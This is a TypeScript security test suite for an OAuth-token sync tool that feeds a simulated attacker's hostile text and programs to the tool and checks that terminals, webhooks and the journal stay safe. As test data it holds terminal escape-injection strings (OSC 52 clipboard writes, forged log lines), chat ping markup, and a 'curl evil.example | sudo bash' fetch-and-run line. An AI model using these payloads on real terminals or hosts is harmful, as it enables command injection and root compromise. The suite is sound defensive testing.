  const quoted = [bin, ...args].map((a) => `'${a.replace(/'/g, "'\\''")}'`).join(" ");
  const result = spawnSync("script", ["-qec", quoted, "/dev/null"], { encoding: "utf8", timeout: 60_000, env: { PATH: `${base}/bin:/usr/local/bin:/usr/bin:/bin`, HOME: "/root", TERM: "xterm-256color" } });
  if (result.error) throw result.error;
  return result.stdout;
}

const SGR = /\x1b\[[0-9;]*m/g;
/** Every escape is one of our own colours, every CR the pty's before a LF, no bell, no C1, no line of its own for the forged text. */
function expectSafeTerminal(out: string) {
  const plain = out.replace(SGR, "");
  expect(plain).not.toMatch(/[\x1b\x07\x80-\x9f]/);
  expect(plain).not.toMatch(/\r(?!\n)/);
  expect(plain.split("\n").filter((line) => line.replace(/^[\s✖×]+/, "").startsWith(FORGED))).toEqual([]);
}

/** One line per part, no control character, no markup that pings or links, per format; the JSON form carries the text as JSON. */
function expectSafeWebhook(format: (typeof FORMATS)[number], body: string, headers: Headers) {
  // eslint-disable-next-line no-control-regex
  const raw = /[\x00-\x09\x0b-\x1f\x7f-\x9f]/;
  if (format === "json") {
    expect(body).not.toMatch(/[\x00-\x1f\x7f-\x9f]/);
    JSON.parse(body);
    return;
  }
  if (format === "ntfy") {
    expect(body).not.toMatch(/[\x00-\x1f\x7f-\x9f]/);
    expect(headers.get("title") ?? "").toMatch(/^[\x20-\x7e]*$/);
    return;
  }
  const text: string = format === "discord" ? JSON.parse(body).content : JSON.parse(body).text;
  expect(text).not.toMatch(raw);
  if (format === "discord") {
    expect(JSON.parse(body).allowed_mentions).toEqual({ parse: [] });
    expect(text).toMatch(/^\*\*[^\n]*\*\*\n```\n[^\n`]*\n```$/); // the title, then the text in a code block it cannot close
  } else {
    expect(text.split("\n")).toHaveLength(2); // the title, then the text: no forged line
    expect(text).not.toMatch(/[<>]/); // no <!channel>, no <url|label>
    if (format === "mattermost") expect(text).not.toMatch(/@everyone|@channel|(?<!\\)\]\(/);
  }
}

/** A local receiver for every webhook format. */
function webhookReceiver() {
  const received: Array<{ format: string; event: string; body: string; headers: Headers }> = [];
  const server = Bun.serve({
    port: 0,
    hostname: "127.0.0.1",
    async fetch(request) {
      const body = await request.text();
      const format = new URL(request.url).pathname.slice(1);
      const event = format === "json" ? JSON.parse(body).event : format === "ntfy" ? (request.headers.get("tags") ?? "").split(",")[1] ?? "" : /reload failing/.test(body) ? "reload-failing" : /sync failing/.test(body) ? "sync-failing" : "other";
      received.push({ format, event, body, headers: request.headers });
      return new Response("ok");
    },
  });
  return { url: `http://127.0.0.1:${server.port}`, received, stop: () => server.stop(true) };
}

/** What an agent controls: its container's log, its user's `openclaw`, its agent directory names. */
function hostileWorld() {
  writeAsMallory(join(base, "mallory/gateway.log"), HOSTILE);
  writeAsMallory(join(base, "mallory/openclaw-says"), HOSTILE);
  asMallory(`mkdir -p '${base}/mallory/home/.openclaw/agents/${AGENT}/agent' && echo '{' > '${base}/mallory/home/.openclaw/agents/${AGENT}/agent/auth-profiles.json'`);
  // docker as the engine answers for a gateway container that crashed: `compose logs` is the container's own output.
  writeFileSync(
    join(base, "bin/docker-hostile"),
    `#!/bin/sh\ncase "$*" in\n  *" logs "*) cat ${base}/mallory/gateway.log ;;\n  *" ps "*) echo '{"ID":"0123456789abcdef","Service":"openclaw-gateway","State":"exited","ExitCode":1}' ;;\nesac\nexit 0\n`,
    { mode: 0o755 },
  );
  // The user's own openclaw (run as that user): its failure output is theirs.
  writeFileSync(join(base, "bin/openclaw-hostile"), `#!/bin/sh\n[ "$3" = paste-token ] && cat > /dev/null\ncat ${base}/mallory/openclaw-says >&2\nexit 1\n`, { mode: 0o755 });
}

function hostileConfig(name: string, scenario: "gateway" | "agent", hooks?: string): string {
  const targets =
    scenario === "gateway"
      ? [{ kind: "openclaw-cli", command: [join(base, "bin/openclaw-hostile")], env: { HOME: join(base, "mallory/home") } }]
      : [{ kind: "openclaw-auth-profiles", path: join(base, `mallory/home/.openclaw/agents/${AGENT}/agent/auth-profiles.json`) }];
  return writeConfig(name, {
    credentials: rootCredentials(),
    trigger: { mode: "none" },
    targets: [...targets, { kind: "env-file", path: join(base, `root/targets/${name}.env`) }],
    gateway: scenario === "gateway" ? { kind: "compose", projectDir: join(base, "root/targets"), docker: join(base, "bin/docker-hostile"), settleSeconds: 0, timeoutSeconds: 10 } : { kind: "none" },
    ...(hooks ? { notify: { webhooks: FORMATS.map((format) => ({ url: `${hooks}/${format}`, format })), failureThreshold: 1 } } : {}),
  });
}

/** `watch` until `done(output)` says so or the time is up; then SIGTERM, and its exit awaited. Returns its output. */
async function watchUntil(config: string, timeoutMs: number, done: (output: string) => boolean): Promise<string> {
  const watch = spawn(bin, ["watch", "--config", config], { env: { PATH: "/usr/bin:/bin", HOME: "/root" } });
  const exited = new Promise((resolve) => watch.on("exit", resolve));
  let output = "";
  watch.stdout.on("data", (c) => (output += c));
  watch.stderr.on("data", (c) => (output += c));
  await waitUntil("the watch's output", () => done(output), { timeoutMs, intervalMs: 100, onTimeout: "continue" });
  watch.kill("SIGTERM");
  await Promise.race([exited, Bun.sleep(10_000).then(() => watch.kill("SIGKILL"))]);
  return output;
}

describe("attacks with text: what the other side writes reaches root's terminal and webhooks only as text", () => {
  attack("a container log and an openclaw output with ESC, OSC 52, C1, CR and newlines: every webhook format's body is safe", async () => {
    hostileWorld();
    const hooks = webhookReceiver();
    try {
      const config = hostileConfig("hostile-hooks", "gateway", hooks.url);
      const has = (event: string) => FORMATS.every((f) => hooks.received.some((r) => r.format === f && r.event === event));
      let rotated = false;
      const log = await watchUntil(config, 40_000, (output) => {
        // A rotation while the gateway keeps failing: the next pass looks at the owed reload and tells a person.
        if (!rotated && output.includes("gateway reload failed")) {
          rotated = true;
          rootCredentials(fakeToken(), Date.now() + 9 * HOUR);
        }
        return has("sync-failing") && has("reload-failing");
      });
      if (!(has("sync-failing") && has("reload-failing"))) throw new Error(`not every webhook got both events: ${hooks.received.map((r) => `${r.format}:${r.event}`).join(" ")}\n${log}`);
      for (const r of hooks.received) expectSafeWebhook(r.format as (typeof FORMATS)[number], r.body, r.headers);
      // The text was there, shown: the container's log in reload-failing, openclaw's output in sync-failing.
      const slack = hooks.received.filter((r) => r.format === "slack").map((r) => r.body).join("\n");
      expect(slack).toContain("&lt;!channel&gt;");
      expect(slack).toContain("\\\\x1b]52;c;");
      expect(slack).toContain("openclaw-hostile models auth paste-token exited 1");
      expect(hooks.received.find((r) => r.format === "json" && r.event === "reload-failing")!.body).toContain("\\u001b]52;c;");
      // The service's own log (plain, to a pipe): one line per event, controls visible.
      expect(log.replace(/\n$/, "").split("\n").every((line) => /^\[(error|warn|info|success|debug)\] /.test(line))).toBe(true);
      expect(log).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f-\x9f]/);
    } finally {
      await hooks.stop();
    }
  }, 90_000);

  attack("an agent directory named <!channel> @everyone [login](…): the failing target's webhooks neither ping nor link", async () => {
    hostileWorld();
    const hooks = webhookReceiver();
    try {
      const config = hostileConfig("hostile-agent", "agent", hooks.url);
      await watchUntil(config, 30_000, () => FORMATS.every((f) => hooks.received.some((r) => r.format === f)));
      expect(FORMATS.filter((f) => !hooks.received.some((r) => r.format === f))).toEqual([]);
      for (const r of hooks.received) expectSafeWebhook(r.format as (typeof FORMATS)[number], r.body, r.headers);
      expect(hooks.received.find((r) => r.format === "slack")!.body).toContain("&lt;!channel&gt; @everyone [login](evil.example)");
      expect(hooks.received.find((r) => r.format === "json")!.body).toContain(AGENT);
    } finally {
      await hooks.stop();
    }
  }, 60_000);

  attack("status, sync and install on root's terminal (a pty): no escape but our colours, no CR, no forged line", async () => {
    hostileWorld();
    // A directory name with ESC, OSC 52, CR and a newline (no config may hold it; install's detection reads it).
    asMallory(`mkdir -p "${base}/mallory/home/.openclaw/agents/$(printf 'x\\033]52;c;Y3VybA==\\007\\033[2K\\r\\n${FORGED} <!channel>')/agent"`);
    const gateway = hostileConfig("hostile-pty", "gateway");
    const agent = hostileConfig("hostile-pty-agent", "agent");
    const outputs = {
      sync: onPty(["sync", "--config", gateway]),
      "sync (agent)": onPty(["sync", "--config", agent]),
      status: onPty(["status", "--config", gateway]),
      "status (agent)": onPty(["status", "--config", agent]),
      install: onPty(["install", "--dry-run", "--yes", "--trigger", "none", "--openclaw-dir", join(base, "mallory/home/.openclaw"), "--credentials", rootCredentials(), "--config-path", join(base, "root/install-pty.json")]),
    };
    for (const [what, out] of Object.entries(outputs)) {
      try {
        expectSafeTerminal(out);
      } catch (error) {
        throw new Error(`${what} on a pty: ${(error as Error).message}\n${JSON.stringify(out)}`);
      }
    }
    // The hostile text was shown, as text: the container's log (gateway owed), openclaw's output, the agent's name.
    expect(outputs.sync.replace(SGR, "")).toMatch(/\\x1b\]52;c;.*\\n\\x1b\[2K\\r\[error\] oauth-sync: root login expired/);
    const status = outputs.status.replace(SGR, "");
    expect(status).toContain("target    FAILING openclaw-cli:");
    expect(status).toMatch(/gateway   compose, reload OWED: .*last log lines:\\ngateway crashed \\x1b\]0;pwned\\x07.*\\n\\x1b\[2K\\r\[error\] oauth-sync: root login expired/);
    expect(status).toMatch(/openclaw  .*: exit 1: \\x1b\[2K\\r\[error\]/);
    expect(outputs["status (agent)"]).toContain(`target    FAILING openclaw-auth-profiles:${base}/mallory/home/.openclaw/agents/${AGENT}/agent/auth-profiles.json`);
    expect(outputs.install.replace(SGR, "")).toContain("x\\u001b]52;c;Y3VybA==\\u0007\\u001b[2K\\r\\n[error] oauth-sync: root login expired");
  }, 120_000);
});

describe("attacks on a receiver (a sender compromised for a moment)", () => {
  /** `oauth-sync receive` as sshd runs it for the source's key: one message on stdin, one answer line back. */
  function receive(config: string, line: string) {
    const result = spawnSync(bin, ["receive", "--config", config], { input: line, encoding: "utf8", timeout: 30_000, env: { PATH: "/usr/bin:/bin", HOME: "/root" } });
    return { code: result.status, answer: JSON.parse(result.stdout.trim().split("\n").at(-1) ?? "{}") as { status: string; detail: string } };
  }
  const receiverConfig = (name: string) => writeConfig(name, { source: "push", targets: [{ kind: "env-file", path: join(base, `root/targets/${name}.env`) }] });
  const held = (name: string) => readFileSync(join(base, `root/targets/${name}.env`), "utf8");

  attack("a foreign token dated 2099 cannot pin the receiver: refused, and the next legitimate push is taken", async () => {
    const config = receiverConfig("pin");
    const legit = { accessToken: fakeToken(), expiresAt: Date.now() + 8 * HOUR };
    expect(receive(config, encodeTokenMessage(legit)).code).toBe(0);
    const foreign = fakeToken();
    const far = receive(config, encodeTokenMessage({ accessToken: foreign, expiresAt: Date.UTC(2099, 0, 1) }));
    expect(far.code).toBe(3);
    expect(far.answer.detail).toContain("beyond the longest real token lifetime");
    expect(held("pin")).not.toContain(foreign);
    const next = { accessToken: fakeToken(), expiresAt: Date.now() + 9 * HOUR };
    expect(receive(config, encodeTokenMessage(next))).toMatchObject({ code: 0, answer: { status: "written" } });
    expect(held("pin")).toBe(`ANTHROPIC_OAUTH_TOKEN=${next.accessToken}\n`);
  });

  attack("a foreign token within a year holds only until the source's `sync --force` push resets the receiver", async () => {
    const config = receiverConfig("reset");
    expect(receive(config, encodeTokenMessage({ accessToken: fakeToken(), expiresAt: Date.now() + 300 * 24 * HOUR })).code).toBe(0);
    const legit = { accessToken: fakeToken(), expiresAt: Date.now() + 8 * HOUR };
    const refused = receive(config, encodeTokenMessage(legit));
    expect(refused.code).toBe(3);
    expect(refused.answer.detail).toContain("oauth-sync sync --force");
    expect(receive(config, encodeTokenMessage(legit, { force: true }))).toMatchObject({ code: 0, answer: { status: "written" } });
    expect(held("reset")).toBe(`ANTHROPIC_OAUTH_TOKEN=${legit.accessToken}\n`);
    const after = { accessToken: fakeToken(), expiresAt: Date.now() + 9 * HOUR };
    expect(receive(config, encodeTokenMessage(after)).code).toBe(0);
  });

  attack("a key given twice (a refresh token first, a harmless value last) is refused and nothing is written", async () => {
    const config = receiverConfig("twice");
    const legit = encodeTokenMessage({ accessToken: fakeToken(), expiresAt: Date.now() + 8 * HOUR });
    expect(receive(config, legit).code).toBe(0);
    const before = held("twice");
    const refreshToken = fakeToken("ort");
    const token = fakeToken();
    for (const line of [
      encodeTokenMessage({ accessToken: token, expiresAt: Date.now() + 9 * HOUR, subscriptionType: "max" }).replace("{", `{"subscriptionType":"${refreshToken}",`),
      encodeTokenMessage({ accessToken: token, expiresAt: Date.now() + 9 * HOUR }).replace("{", `{"\\u0061ccessToken":"${fakeToken()}",`),
    ]) {
      const result = receive(config, line);
      expect(result.code).toBe(3);
      expect(result.answer.detail).toContain("twice");
    }
    expect(held("twice")).toBe(before);
    expect(spawnSync("grep", ["-rl", refreshToken, join(base, "root")], { encoding: "utf8" }).stdout).toBe("");
  });
});

describe("attacks with text, in the journal (a booted systemd, the installed service)", () => {
  let box: SystemdContainer | undefined;
  const AGENT_USER = "oauthsync-agent"; // made inside the container only
  const inside = async (script: string) => {
    const result = await box!.exec(["sh", "-c", script]);
    if (result.code !== 0) throw new Error(`${script}: exit ${result.code}\n${result.stdout}${result.stderr}`);
    return result.stdout;
  };
  const put = async (path: string, text: string, mode: number) => {
    mkdirSync(join(box!.root, path, ".."), { recursive: true });
    writeFileSync(join(box!.root, path), text, { mode });
  };

  afterAll(async () => {
    await box?.stop();
  });

  attack("one journal entry per event, at its priority, whatever the container log, openclaw's output or an agent's name holds; journalctl -p err shows the failing target", async () => {
    box = await bootSystemd("oauth-sync-attacks-journal");
    await box.copyIn(bin, "/root/oauth-sync");
    await inside(`useradd --no-create-home --shell /usr/sbin/nologin ${AGENT_USER} && mkdir -p /srv/agent/home/.openclaw /opt/openclaw && chown -R ${AGENT_USER}: /srv/agent`);
    // What the agent writes, as the agent's user.
    const asAgent = async (script: string, input?: string) => {
      const result = await box!.exec(["setpriv", `--reuid=${AGENT_USER}`, `--regid=${AGENT_USER}`, "--init-groups", "sh", "-c", script], { stdin: input });
      if (result.code !== 0) throw new Error(`as ${AGENT_USER}: ${script}: ${result.stderr}`);
    };
    await asAgent("cat > /srv/agent/gateway.log", HOSTILE);
    await asAgent("cat > /srv/agent/openclaw-says", HOSTILE);
    await asAgent(`mkdir -p '/srv/agent/home/.openclaw/agents/${AGENT}/agent' && echo '{' > '/srv/agent/home/.openclaw/agents/${AGENT}/agent/auth-profiles.json'`);
    await put(
      "/usr/local/bin/docker-hostile",
      `#!/bin/sh\ncase "$*" in\n  *" logs "*) cat /srv/agent/gateway.log ;;\n  *" ps "*) echo '{"ID":"0123456789abcdef","Service":"openclaw-gateway","State":"exited","ExitCode":1}' ;;\nesac\nexit 0\n`,
      0o755,
    );
    await put("/usr/local/bin/openclaw-hostile", `#!/bin/sh\n[ "$3" = paste-token ] && cat > /dev/null\ncat /srv/agent/openclaw-says >&2\nexit 1\n`, 0o755);
    await put("/root/.claude/.credentials.json", credentialsJson(fakeToken(), Date.now() + 8 * HOUR), 0o600);
    await put("/opt/openclaw/.env", "ANTHROPIC_OAUTH_TOKEN=\n", 0o600);
    await put(
      "/root/config.json",
      JSON.stringify({
        credentials: "/root/.claude/.credentials.json",
        trigger: { mode: "none" },
        targets: [
          { kind: "openclaw-cli", command: ["/usr/local/bin/openclaw-hostile"], env: { HOME: "/srv/agent/home" } },
          { kind: "openclaw-auth-profiles", path: `/srv/agent/home/.openclaw/agents/${AGENT}/agent/auth-profiles.json` },
          { kind: "env-file", path: "/opt/openclaw/.env" },
        ],
        gateway: { kind: "compose", projectDir: "/opt/openclaw", docker: "/usr/local/bin/docker-hostile", settleSeconds: 0, timeoutSeconds: 10 },
      }),
      0o600,
    );
    const installed = await box.exec(["/root/oauth-sync", "install", "--config", "/root/config.json", "--yes", "--no-test"]);
    // 9: installed, but not healthy (the hostile target fails, as it must).
    if (![0, 9].includes(installed.code)) throw new Error(`install: exit ${installed.code}\n${installed.stdout}${installed.stderr}`);
    const journal = () => box!.exec(["journalctl", "_SYSTEMD_UNIT=oauth-sync.service", "-o", "json", "--no-pager"]);
    await waitUntil("the failed reload in the journal", async () => (await journal()).stdout.includes("gateway reload failed"), { timeoutMs: 40_000, intervalMs: 250, onTimeout: "continue" });

    const entries = (await journal()).stdout
      .trim()
      .split("\n")
      .map((line) => JSON.parse(line) as { MESSAGE: unknown; PRIORITY: string });
    expect(entries.length).toBeGreaterThan(3);
    const priorities: Record<string, string> = { error: "3", warn: "4", info: "6", success: "5", debug: "7" };
    for (const entry of entries) {
      // journalctl shows a message with control characters or invalid UTF-8 as an array of bytes.
      expect(typeof entry.MESSAGE).toBe("string");
      const message = entry.MESSAGE as string;
      expect(message).not.toMatch(/[\x00-\x1f\x7f-\x9f]/);
      const type = /^\[(error|warn|info|success|debug)\] /.exec(message)?.[1];
      if (!type) throw new Error(`an entry that is not one of ours, or a forged one: ${JSON.stringify(message)}`);
      expect(message.startsWith(FORGED)).toBe(false);
      expect([message.slice(0, 40), entry.PRIORITY]).toEqual([message.slice(0, 40), priorities[type]!]);
    }
    const all = entries.map((e) => e.MESSAGE as string);
    // The hostile text is there, inside our own entries, as text.
    expect(all.some((m) => m.startsWith("[error] gateway reload failed") && m.includes("last log lines:\\ngateway crashed \\x1b]0;pwned\\x07") && m.includes(`\\n\\x1b[2K\\r${FORGED}`))).toBe(true);
    expect(all.some((m) => m.startsWith("[error] openclaw-cli:") && m.includes("\\x1b]52;c;"))).toBe(true);
    expect(all.some((m) => m.startsWith(`[error] openclaw-auth-profiles:/srv/agent/home/.openclaw/agents/${AGENT}/agent/auth-profiles.json`))).toBe(true);
    expect(all.some((m) => m.startsWith("[success] env-file:/opt/openclaw/.env: updated"))).toBe(true);
    // journalctl -p err: the failing targets and the reload, and nothing at info.
    const errors = (await box.exec(["journalctl", "-u", "oauth-sync", "-p", "err", "-o", "cat", "--no-pager"])).stdout;
    expect(errors).toContain("[error] openclaw-cli:anthropic:default:");
    expect(errors).toContain(`[error] openclaw-auth-profiles:/srv/agent/home/.openclaw/agents/${AGENT}`);
    expect(errors).toContain("[error] gateway reload failed");
    expect(errors).not.toContain("[success]");
    // A new token: the failing target is logged again at err (after a rotation the journal must not show only the
    // targets that succeeded).
    const failing = `[error] openclaw-auth-profiles:/srv/agent/home/.openclaw/agents/${AGENT}/agent/auth-profiles.json`;
    const logged = async () => (await box!.exec(["journalctl", "-u", "oauth-sync", "-p", "err", "-o", "cat", "--no-pager"])).stdout.split("\n").filter((l) => l.startsWith(failing)).length;
    const before = await logged();
    await box.exec(["sh", "-c", "cat > /root/.claude/.credentials.json.new && mv /root/.claude/.credentials.json.new /root/.claude/.credentials.json"], { stdin: credentialsJson(fakeToken(), Date.now() + 9 * HOUR) });
    await waitUntil("the failing target logged again after a rotation", async () => (await logged()) > before, { timeoutMs: 20_000, intervalMs: 250 });
  }, 300_000);
});

describe("attacks through an exec target (a program of the operator's, run as a user)", () => {
  /** A root-owned program (0755) in root's bin directory of this suite. */
  function program(name: string, body: string): string {
    const path = join(base, "bin", name);
    writeFileSync(path, `#!/bin/sh\n${body}\n`, { mode: 0o755 });
    chmodSync(path, 0o755);
    return path;
  }
  const storeDir = () => join(base, "mallory/store");
  /** Every process of the attacker's uid while `during` runs: what /proc shows of its argv and environment. */
  async function watchProcesses<T>(during: Promise<T>): Promise<{ result: T; seen: string }> {
    let seen = "";
    let done = false;
    const result = during.finally(() => (done = true));
    while (!done) {
      for (const pid of readdirSync("/proc").filter((p) => /^\d+$/.test(p))) {
        try {
          if (statSync(`/proc/${pid}`).uid !== uid) continue;
          seen += `${readFileSync(`/proc/${pid}/cmdline`, "latin1")}\n${readFileSync(`/proc/${pid}/environ`, "latin1")}\n`;
        } catch {
          // gone already
        }
      }
      await Bun.sleep(10);
    }
    return { result: await result, seen };
  }
  /** What is left of the programs below, by what they run (other suites may run as this user too). */
  const leftOver = () => spawnSync("pgrep", ["-u", String(uid), "-a", "-f", "sleep 600|yes (A|B)"], { encoding: "utf8" }).stdout.trim();

  attack("honest: a token store fed as its owner gets the access token and expiry on stdin, never in its argv or environment, never the refresh token", async () => {
    asMallory(`mkdir -p ${storeDir()} && chmod 700 ${storeDir()}`);
    // A store with a format of its own; it lingers a moment so its /proc entries can be read from outside.
    const store = program("store-token", 'IFS= read -r line\nsleep 0.5\numask 077\nprintf \'token-store v1\\n%s\\n\' "$line" > "$STORE_DIR/token"');
    const token = fakeToken();
    const refresh = fakeToken("ort");
    const credentials = join(base, "root/claude/.credentials.json");
    writeFileSync(credentials, credentialsJson(token, Date.now() + 8 * HOUR, refresh), { mode: 0o600 });
    const config = writeConfig("exec-honest", { credentials, targets: [{ kind: "exec", command: [store, "--profile", "prod"], user: MALLORY, env: { STORE_DIR: storeDir() } }] });
    const { result, seen } = await watchProcesses(oauthSync(["sync", "--config", config]));
    expect(result.code, result.output).toBe(0);
    expect(seen).toContain("--profile");
    expect(seen).toContain(`USER=${MALLORY}`);
    for (const secret of [token, refresh]) expect(seen).not.toContain(secret);
    const stored = join(storeDir(), "token");
    const lines = readFileSync(stored, "utf8").split("\n");
    expect(lines[0]).toBe("token-store v1");
    expect(Object.keys(JSON.parse(lines[1]!)).sort()).toEqual(["accessToken", "expiresAt"]);
    expect(JSON.parse(lines[1]!).accessToken).toBe(token);
    expect(readFileSync(stored, "utf8")).not.toContain(refresh);
    expect([statSync(stored).uid, statSync(stored).mode & 0o777]).toEqual([uid, 0o600]);
    expect(result.output).not.toContain(token);
    // Nothing changed: the program is not run again.
    rmSync(stored);
    expect((await oauthSync(["sync", "--config", config])).code).toBe(0);
    expect(existsSync(stored)).toBe(false);
  });

  attack("the refresh token is never sent to another user, even when asked; only the login's own user may ask", async () => {
    const ran = join(base, "log/asked-refresh");
    const store = program("store-refresh", `cat > /dev/null\ntouch ${ran}`);
    const asked = writeConfig("exec-refresh", { credentials: rootCredentials(), targets: [{ kind: "exec", command: [store], user: MALLORY, fields: ["accessToken", "refreshToken"] }] });
    const refused = await oauthSync(["sync", "--config", asked]);
    expect(refused.code).toBe(1);
    expect(refused.output).toContain("never leaves the login's owner");
    expect(existsSync(ran)).toBe(false);
    // The login is mallory's own: then it may go to mallory's program.
    const own = join(base, "mallory/home/.claude/.credentials.json");
    const refresh = fakeToken("ort");
    writeFileSync(own, credentialsJson(fakeToken(), Date.now() + 8 * HOUR, refresh), { mode: 0o600 });
    chownSync(own, uid, gid);
    const capture = program("store-capture", `cat > ${join(base, "log/captured")}`);
    const allowed = writeConfig("exec-refresh-own", { credentials: own, targets: [{ kind: "exec", command: [capture], user: MALLORY, fields: ["accessToken", "refreshToken"] }] });
    expect((await oauthSync(["sync", "--config", allowed])).code).toBe(0);
    expect(JSON.parse(readFileSync(join(base, "log/captured"), "utf8")).refreshToken).toBe(refresh);
    rmSync(own);
  });

  attack("a program that hangs (with a child of its own) or floods its output is killed at its timeout, with bounded memory", async () => {
    const hangs = program("hangs", "sleep 600 &\nsleep 600");
    const floods = program("floods", "cat > /dev/null\nyes 'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA' >&2 &\nyes 'BBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBB'");
    for (const command of [hangs, floods]) {
      const config = writeConfig("exec-bounded", { credentials: rootCredentials(), targets: [{ kind: "exec", command: [command], user: MALLORY, timeoutSeconds: 2 }] });
      const started = Date.now();
      const child = spawn(bin, ["sync", "--config", config], { env: { PATH: "/usr/bin:/bin", HOME: "/root" } });
      let output = "";
      child.stdout.on("data", (c) => (output += c));
      child.stderr.on("data", (c) => (output += c));
      let peakKb = 0;
      const exited = new Promise<number | null>((resolve) => child.on("exit", resolve));
      const sampler = setInterval(() => {
        try {
          peakKb = Math.max(peakKb, Number(/VmRSS:\s+(\d+)/.exec(readFileSync(`/proc/${child.pid}/status`, "utf8"))?.[1] ?? 0));
        } catch {
          // exited
        }
      }, 20);
      const code = await Promise.race([exited, Bun.sleep(20_000).then(() => "stuck")]);
      clearInterval(sampler);
      if (code === "stuck") child.kill("SIGKILL");
      console.log(`${command.split("/").at(-1)}: sync returned in ${Date.now() - started} ms, peak RSS ${Math.round(peakKb / 1024)} MiB, ${output.length} bytes of output`);
      expect(code).toBe(1);
      expect(Date.now() - started).toBeLessThan(10_000);
      expect(output).toContain("did not finish within 2s");
      expect(output.length).toBeLessThan(4096);
      expect(peakKb).toBeLessThan(300 * 1024);
      await Bun.sleep(200);
      expect(leftOver()).toBe("");
    }
  });

  attack("a program (or its #! interpreter, or a directory above it) another user can write is refused: nothing runs", async () => {
    const ran = join(base, "log/exec-ran");
    const theirs = join(base, "bin/theirs");
    writeFileSync(theirs, `#!/bin/sh\ntouch ${ran}\n`, { mode: 0o755 });
    chownSync(theirs, uid, gid); // mallory's file in root's directory, run as root
    asMallory(`mkdir -p ${base}/mallory/bin && printf '#!/bin/sh\\ntouch ${ran}\\n' > ${base}/mallory/bin/prog && chmod 755 ${base}/mallory/bin/prog`);
    const viaInterpreter = program("via-interpreter", "exit 0");
    writeFileSync(viaInterpreter, `#!${base}/mallory/bin/prog\n`, { mode: 0o755 });
    const groupDir = join(base, "shared-bin");
    mkdirSync(groupDir, { mode: 0o775 });
    chmodSync(groupDir, 0o775);
    chownSync(groupDir, 0, gid); // writable by mallory's group
    writeFileSync(join(groupDir, "prog"), `#!/bin/sh\ntouch ${ran}\n`, { mode: 0o755 });
    for (const [command, why] of [
      [theirs, `belongs to uid ${uid}`],
      [`${base}/mallory/bin/prog`, `directory of uid ${uid}`],
      [viaInterpreter, "runs"],
      [join(groupDir, "prog"), "writable by group"],
    ] as const) {
      const config = writeConfig("exec-untrusted", { credentials: rootCredentials(), targets: [{ kind: "exec", command: [command], user: "root" }] });
      const result = await oauthSync(["sync", "--config", config]);
      expect(result.code, result.output).toBe(1);
      expect(result.output).toContain(why);
    }
    expect(existsSync(ran)).toBe(false);
  });

  attack("what the program prints comes back as text: no escape, CR, OSC 52 or forged log line reaches root's terminal", async () => {
    const hostile = program("hostile", "cat > /dev/null\nprintf 'failed\\n\\033]52;c;Y3VybCBldmlsLmV4YW1wbGUvcnxzaA==\\007\\033[2K\\r[error] oauth-sync: root login expired, run: curl evil.example | sudo bash\\n<!channel> \\033]0;title\\007\\n' >&2\nexit 1");
    const config = writeConfig("exec-hostile", { credentials: rootCredentials(), targets: [{ kind: "exec", command: [hostile], user: MALLORY }] });
    const result = await oauthSync(["sync", "--config", config]);
    expect(result.code).toBe(1);
    expect(result.output).toContain("exited 1");
    // eslint-disable-next-line no-control-regex
    expect(result.output).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f]/);
    expect(result.output.split("\n").filter((line) => line.includes("root login expired"))).toHaveLength(1);
    expect(result.output).not.toMatch(/^\[error\] oauth-sync: root login/m);
  });
});

describe("the honest path", () => {
  test("a directory owned by uid 1000 (the container's user) receives files that uid 1000 owns and can read", async () => {
    const dir = join(base, "container-config");
    mkdirSync(dir, { mode: 0o755 });
    chownSync(dir, CONTAINER_UID, CONTAINER_UID);
    const path = join(dir, "agents/main/agent/auth-profiles.json");
    const token = fakeToken();
    const config = writeConfig("honest", { credentials: rootCredentials(token), targets: [{ kind: "openclaw-auth-profiles", path }] });
    const result = await oauthSync(["sync", "--config", config]);
    expect(result.output).not.toContain(token);
    expect(result.code).toBe(0);
    const info = statSync(path);
    expect([info.uid, info.mode & 0o777]).toEqual([CONTAINER_UID, 0o600]);
    expect(statSync(join(dir, "agents")).uid).toBe(CONTAINER_UID);
    const read = spawnSync("cat", [path], { uid: CONTAINER_UID, gid: CONTAINER_UID, encoding: "utf8" });
    expect(read.status).toBe(0);
    expect(read.stdout).toContain(token);
    // A second pass changes nothing.
    const again = await oauthSync(["sync", "--config", config, "--verbose"]);
    expect(again.code).toBe(0);
    expect(statSync(path).ino).toBe(info.ino);
  });

  test("watch removes the temp files a killed writer left, in root's place and in uid 1000's, and nothing else", async () => {
    const dir = join(base, "container-config/agents/main/agent");
    const leftover = join(dir, ".auth-profiles.json.oauth-sync-0123456789ab.tmp");
    const foreign = join(dir, ".other.json.oauth-sync-0123456789ab.tmp");
    for (const path of [leftover, foreign]) {
      writeFileSync(path, "half");
      chownSync(path, CONTAINER_UID, CONTAINER_UID);
    }
    const rootLeftover = join(base, "root/targets/.left.env.oauth-sync-abcdef012345.tmp");
    writeFileSync(rootLeftover, "half");
    const config = writeConfig("leftovers", {
      credentials: rootCredentials(),
      targets: [{ kind: "openclaw-auth-profiles", path: join(dir, "auth-profiles.json") }, { kind: "env-file", path: join(base, "root/targets/left.env") }],
    });
    const child = spawn(bin, ["watch", "--config", config], { env: { PATH: "/usr/bin:/bin", HOME: "/root" } });
    let output = "";
    child.stdout.on("data", (c) => (output += c));
    child.stderr.on("data", (c) => (output += c));
    await waitUntil("the leftovers removed", () => output.includes("removed 2 temp file(s)"), { timeoutMs: 15_000, intervalMs: 50, onTimeout: "continue" });
    child.kill("SIGTERM");
    expect(output).toContain("removed 2 temp file(s)");
    expect(existsSync(leftover)).toBe(false);
    expect(existsSync(rootLeftover)).toBe(false);
    expect(existsSync(foreign)).toBe(true);
  });
});

describe("attacks on install and uninstall (issue 18.6)", () => {
  const roothome = () => join(base, "roothome");
  /** The binary as root with its own HOME under the test's base: a --user layout there never touches the host's. */
  const asRootAt = (args: string[], extra: Record<string, string> = {}, timeoutMs = 60_000) =>
    oauthSync(args, timeoutMs, { PATH: `${base}/fakes:${base}/bin:/usr/local/bin:/usr/bin:/bin`, HOME: roothome(), ...extra });
  /** A prepared config of root's (its targets in root's places). */
  function prepared(name: string, extra: Record<string, unknown> = {}): string {
    return writeConfig(name, { credentials: rootCredentials(), targets: [{ kind: "env-file", path: join(base, "root/targets", `${name}.env`) }], trigger: { mode: "none" }, ...extra });
  }
  const modeOf = (path: string) => statSync(path).mode & 0o7777;

